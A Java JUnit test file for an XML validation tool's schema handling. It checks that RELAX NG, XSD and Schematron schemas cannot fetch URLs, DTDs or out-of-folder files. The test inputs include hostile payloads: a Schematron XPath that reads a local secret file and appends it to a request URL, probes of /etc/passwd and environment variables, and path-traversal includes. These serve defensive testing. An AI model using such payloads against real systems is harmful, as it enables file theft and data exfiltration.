package org.teiedition.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Schemas are untrusted input like documents: a schema (named with --schema or by a document's xml-model) may read
 * only files beside it, never the network, never a DTD or an external entity; a Schematron rule's XPath may read no
 * file and no URL. A local HTTP server counts requests: there must be none, and the error names what was refused.
 */
class SchemaResourcesTest {
    /** One per test: tests run in parallel, and each counts its own requests. */
    Hostile.CountingServer server;

    @TempDir
    Path dir;

    @BeforeEach
    void start() throws Exception {
        server = new Hostile.CountingServer();
    }

    @AfterEach
    void stop() {
        server.close();
    }

    static final String ANYTHING = """
            <define name="anything" xmlns="http://relaxng.org/ns/structure/1.0"><element><anyName/><zeroOrMore><choice>
              <attribute><anyName/></attribute><text/><ref name="anything"/></choice></zeroOrMore></element></define>""";

    private Path letter() throws Exception {
        Path doc = dir.resolve("letter.xml");
        Files.copy(Hostile.LETTER, doc, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        return doc;
    }

    private Path grammar(String name, String inside) throws Exception {
        Path rng = dir.resolve(name);
        Files.writeString(rng, "<grammar xmlns=\"http://relaxng.org/ns/structure/1.0\">" + inside + "</grammar>");
        return rng;
    }

    private void assertRefused(Hostile.Run r, String refused) throws Exception {
        assertEquals(0, server.requests.get(), "requests sent:\n" + r.all());
        assertTrue(r.code() != 0, r.all());
        assertTrue(r.err().contains(refused) && r.err().contains("not read"), "names what was refused:\n" + r.all());
        assertFalse(r.all().contains("Exception"), r.all());
        Hostile.assertNoSecrets("output", r.all());
    }

    @Test
    void relaxNgIncludeOfAUrlIsRefusedWithoutARequest() throws Exception {
        String url = server.url("x.rng");
        Path rng = grammar("evil.rng", "<include href=\"" + url + "\"/><start><ref name=\"anything\"/></start>" + ANYTHING);
        assertRefused(Hostile.run("validate", "--schema", rng.toString(), letter().toString()), url);
    }

    @Test
    void relaxNgExternalRefThroughAJarUrlIsRefusedWithoutARequest() throws Exception {
        String url = "jar:" + server.url("x.jar") + "!/x.rng";
        Path rng = grammar("evil.rng", "<start><externalRef href=\"" + url + "\"/></start>");
        assertRefused(Hostile.run("validate", "--schema", rng.toString(), letter().toString()), url);
    }

    @Test
    void relaxNgIncludeOfAFileOutsideTheSchemaFolderIsRefused() throws Exception {
        Path outside = dir.resolve("outside.rng");
        Files.writeString(outside, "<grammar xmlns=\"http://relaxng.org/ns/structure/1.0\">" + ANYTHING + "</grammar>");
        Files.createDirectories(dir.resolve("schemas"));
        Path rng = dir.resolve("schemas/evil.rng");
        Files.writeString(rng, "<grammar xmlns=\"http://relaxng.org/ns/structure/1.0\"><include href=\"../outside.rng\"/>"
                + "<start><ref name=\"anything\"/></start></grammar>");
        Hostile.Run r = Hostile.run("validate", "--schema", rng.toString(), letter().toString());
        assertRefused(r, "outside.rng");
    }

    @Test
    void compactSyntaxIncludeOfAUrlIsRefusedWithoutARequest() throws Exception {
        String url = server.url("x.rnc");
        Path rnc = dir.resolve("evil.rnc");
        Files.writeString(rnc, "include \"" + url + "\"\nstart = element TEI { text }\n");
        assertRefused(Hostile.run("validate", "--schema", rnc.toString(), letter().toString()), url);
    }

    @Test
    void relaxNgIncludeBesideTheSchemaWorks() throws Exception {
        grammar("part.rng", ANYTHING);
        Path rng = grammar("main.rng", "<include href=\"part.rng\"/><start><ref name=\"anything\"/></start>");
        Hostile.Run r = Hostile.run("validate", "--schema", rng.toString(), letter().toString());
        assertEquals(0, r.code(), r.all());
        assertTrue(r.out().contains("1 file, 1 valid"), r.all());
    }

    @Test
    void relaxNgNamedByXmlModelCannotFetchEither() throws Exception {
        String url = server.url("x.rng");
        grammar("evil.rng", "<include href=\"" + url + "\"/><start><ref name=\"anything\"/></start>" + ANYTHING);
        Path doc = dir.resolve("named.xml");
        Files.writeString(doc, Files.readString(Hostile.LETTER).replaceFirst("\\?>",
                "?>\n<?xml-model href=\"evil.rng\" schematypens=\"http://relaxng.org/ns/structure/1.0\"?>"));
        Hostile.Run r = Hostile.run("validate", "--use-xml-model", doc.toString());
        assertEquals(0, server.requests.get(), r.all());
        assertTrue(r.err().contains(url) && r.err().contains("not read"), r.all());
        assertEquals(1, r.code(), r.all());
    }

    @Test
    void schemaDoctypeIsNotFetched() throws Exception {
        String url = server.url("schema.dtd");
        Path rng = dir.resolve("dtd.rng");
        Files.writeString(rng, "<!DOCTYPE grammar SYSTEM \"" + url + "\">\n<grammar xmlns=\"http://relaxng.org/ns/structure/1.0\">"
                + "<start><ref name=\"anything\"/></start>" + ANYTHING + "</grammar>");
        Hostile.Run r = Hostile.run("validate", "--schema", rng.toString(), letter().toString());
        assertEquals(0, server.requests.get(), r.all());
        Path xsd = dir.resolve("dtd.xsd");
        Files.writeString(xsd, "<!DOCTYPE xs:schema SYSTEM \"" + url + "\">\n<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">"
                + "<xs:element name=\"TEI\"/></xs:schema>");
        r = Hostile.run("validate", "--schema", xsd.toString(), letter().toString());
        assertEquals(0, server.requests.get(), r.all());
    }

    @Test
    void xsdIncludeOfAFileOutsideTheSchemaFolderIsRefused() throws Exception {
        Files.writeString(dir.resolve("outside.xsd"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">"
                + "<xs:element name=\"TEI\"/></xs:schema>");
        Files.createDirectories(dir.resolve("schemas"));
        Path xsd = dir.resolve("schemas/evil.xsd");
        Files.writeString(xsd, "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include schemaLocation=\"../outside.xsd\"/>"
                + "</xs:schema>");
        Hostile.Run r = Hostile.run("validate", "--schema", xsd.toString(), letter().toString());
        assertRefused(r, "outside.xsd");
    }

    private Path schematron(String name, String inside) throws Exception {
        Path sch = dir.resolve(name);
        Files.writeString(sch, "<schema xmlns=\"http://purl.oclc.org/dsdl/schematron\" queryBinding=\"xslt3\">"
                + inside + "</schema>");
        return sch;
    }

    @Test
    void schematronCannotSendALocalFileToAServer() throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "root:x:0:0:root");
        String url = "jar:" + server.url("x.jar") + "?";
        Path sch = schematron("leak.sch", "<pattern><rule context=\"/*\"><assert test=\"unparsed-text-available('" + url
                + "' || encode-for-uri(unparsed-text('" + secret.toUri() + "')) || '!/a')\">checked</assert>"
                + "</rule></pattern>");
        Hostile.Run r = Hostile.run("validate", "--schema", sch.toString(), letter().toString());
        assertRefused(r, secret.toUri().toString());
    }

    @Test
    void schematronFunctionsThatReachOutFindNothing() throws Exception {
        String url = server.url("x.xml");
        Path sch = schematron("probe.sch", "<pattern><rule context=\"/*\">"
                + "<report test=\"unparsed-text-available('" + url + "')\">text</report>"
                + "<report test=\"doc-available('" + url + "')\">doc</report>"
                + "<report test=\"unparsed-text-available('file:///etc/passwd')\">passwd</report>"
                + "<report test=\"exists(available-environment-variables())\">env <value-of select=\"available-environment-variables()\"/></report>"
                + "</rule></pattern>");
        Hostile.Run r = Hostile.run("validate", "--schema", sch.toString(), letter().toString());
        assertEquals(0, server.requests.get(), r.all());
        assertEquals(0, r.code(), r.all());
        assertTrue(r.out().contains("1 file, 1 valid, 0 errors, 0 warnings"), r.all());
    }

    @Test
    void schematronIncludeOfAUrlIsRefusedWithoutARequest() throws Exception {
        String url = server.url("rules.sch");
        Path sch = schematron("inc.sch", "<include href=\"" + url + "\"/>");
        assertRefused(Hostile.run("validate", "--schema", sch.toString(), letter().toString()), url);
    }

    @Test
    void schematronIncludeBesideTheSchemaWorks() throws Exception {
        Files.writeString(dir.resolve("rules.sch"), "<pattern xmlns=\"http://purl.oclc.org/dsdl/schematron\"><rule context=\"/*\">"
                + "<report test=\"true()\" role=\"warning\">included rule ran</report></rule></pattern>");
        Path sch = schematron("main.sch", "<include href=\"rules.sch\"/>");
        Hostile.Run r = Hostile.run("validate", "--schema", sch.toString(), letter().toString());
        assertEquals(0, r.code(), r.all());
        assertTrue(r.err().contains("warning: included rule ran"), r.all());
    }
}
